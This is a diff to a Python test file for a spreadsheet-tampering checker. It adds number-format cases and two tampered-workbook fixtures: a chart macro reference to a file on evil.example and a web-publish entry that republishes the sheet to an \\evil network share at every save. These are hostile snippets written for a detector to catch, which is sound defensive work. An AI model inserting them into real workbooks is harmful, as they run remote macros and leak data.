@@ -258,6 +258,8 @@ TAMPERED: dict[str, tuple[Callable[[], tuple[Change, ...]], str, str]] = {
     "group of shapes": (lambda: over("<xdr:grpSp><xdr:sp/></xdr:grpSp>"), "overlay", "a group of shapes at B3"),
     "line": (lambda: over("<xdr:cxnSp/>"), "overlay", "a line at B3"),
     "note": (note, "overlay", "a note lies on"),
+    "macro on a chart": (one(changed("xl/drawings/drawing1.xml", lambda xml: re.sub(r"<xdr:graphicFrame[^>]*>", '<xdr:graphicFrame macro="\'http://evil.example/x.xlsm\'!Evil">', xml, count=1))), "overlay", "a macro that starts with a click"),
+    "published at every save": (one(in_front(before_margins('<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="\\\\evil\\s\\x.htm" autoRepublish="1"/></webPublishItems>'))), "overlay", "published whenever the file is saved"),
     "picture behind": (one(in_front(lambda xml: xml.replace("<drawing ", '<picture r:id="rId1"/><drawing ', 1))), "overlay", "behind"),
     "merged cells": (one(in_results(merged)), "overlay", "lies under cells that were merged"),
     "series of another sheet": (one(other_series), "chart", "none of the cells of the build"),
@@ -434,12 +436,13 @@ def test_references_have_one_form() -> None:
 
 SHOWING = (
     "General", "0", "0.00", "#,##0.0#", "[<0.01]0.00000;[<10]0.000;#,##0.00", '0.00"x"', r"0.00\x", r"\~#,##0", "0.0%",
-    "mm/dd/yy", "[$-407]dd.mm.yyyy", "d mmmm yyyy", "yyyy-mm-dd", r"yyyy\-mm\-dd", "[$$-409]#,##0.000", "[$€-407] 0.00", "[Red]-0.0", "@", "0.00E+00",
+    "mm/dd/yy", "[$-407]dd.mm.yyyy", "d mmmm yyyy", "yyyy-mm-dd", r"yyyy\-mm\-dd", "[$$-409]#,##0.000", "[$€-407] 0.00", "0.0;[Red]-0.0", "#,##0_);(#,##0)", "[<0]-0;0", "@", "0.00E+00",
     '_(* #,##0.00_);_(* \\(#,##0.00\\);_(* "-"??_);_(@_)',
 )  # fmt: skip
 FALSIFYING = (
     ";;;", "0;;", ";", '"0.05"', '"0"', r"\0\.\0\5", '0"5"', "0,", "#,##0,", '0.0,,"M"', '0"k"', "# ?/?", "[h]:mm", "d/m", "yyyy", "mm:ss", '0;0;"0"',
-    '0;0;0;"ok"', "0;0;0;", "", '0"', "[>1]0;;", "0 0", "0.0.0", "[DBNum1]0",
+    '0;0;0;"ok"', "0;0;0;", "", '0"', "[>1]0;;", "0 0", "0.0.0", "[DBNum1]0", "0.0;0.0", r"0\ %;0\ %",
+    "#,##0;#,##0;0", "-0.0", "[Red]-0.0", "(0)", '"-"0', "[<0]0;0", "[>=0]0;0", "[>-5]0;0",
 )  # fmt: skip
 
 
